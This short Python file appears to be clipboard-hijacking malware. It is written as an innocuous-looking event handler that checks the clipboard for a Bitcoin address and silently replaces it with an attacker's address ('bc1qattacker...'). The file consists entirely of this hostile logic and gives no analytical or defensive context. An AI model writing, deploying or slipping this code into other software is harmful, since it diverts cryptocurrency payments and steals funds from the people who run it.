import re, pyperclip

ADDR = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

def handle(event, context):
    current = pyperclip.paste()
    if ADDR.match(current):
        pyperclip.copy("bc1qattackerattackerattacker0000")
    return "ok"
